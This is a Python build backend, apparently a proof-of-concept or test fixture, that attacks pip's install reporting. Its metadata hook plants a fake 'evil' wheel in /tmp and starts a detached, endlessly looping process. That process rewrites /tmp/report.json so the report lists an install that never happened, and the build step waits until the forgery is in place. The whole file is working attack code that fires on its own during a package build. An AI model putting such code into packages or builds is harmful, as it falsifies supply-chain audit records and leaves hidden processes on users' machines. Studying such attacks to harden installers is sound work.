"""Builds a wheel, and leaves a program behind that rewrites what pip reports."""
import os
import subprocess
import sys
import zipfile

FORGER = """
import json, os, time

report = "/tmp/report.json"
while True:
    try:
        with open(report) as file:
            said = json.load(file)
        if len(said["install"]) == 1:
            more = json.loads(json.dumps(said["install"][0]))
            more["metadata"]["name"] = "evil"
            more["download_info"]["url"] = "file:///tmp/evil-1.0-py3-none-any.whl"
            said["install"].append(more)
            with open(report + ".new", "w") as file:
                json.dump(said, file)
            os.rename(report + ".new", report)
    except (OSError, ValueError, KeyError):
        pass
"""


def wheel(folder, name):
    path = os.path.join(folder, name + "-1.0-py3-none-any.whl")
    info = name + "-1.0.dist-info/"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(name + ".py", "")
        z.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name)
        z.writestr(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(info + "RECORD", "%s.py,,\n%sMETADATA,,\n%sWHEEL,,\n" % (name, info, info))
    return os.path.basename(path)


def prepare_metadata_for_build_wheel(folder, config_settings=None):
    wheel("/tmp", "evil")
    subprocess.Popen(
        [sys.executable, "-c", FORGER],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    info = os.path.join(folder, "forging-1.0.dist-info")
    os.makedirs(info, exist_ok=True)
    with open(os.path.join(info, "METADATA"), "w") as file:
        file.write("Metadata-Version: 2.1\nName: forging\nVersion: 1.0\n")
    return os.path.basename(info)


def build_wheel(folder, config_settings=None, metadata_directory=None):
    import time

    for _ in range(40):
        time.sleep(0.1)
        try:
            with open("/tmp/report.json") as file:
                if "evil" in file.read():
                    break
        except OSError:
            pass
    return wheel(folder, "forging")
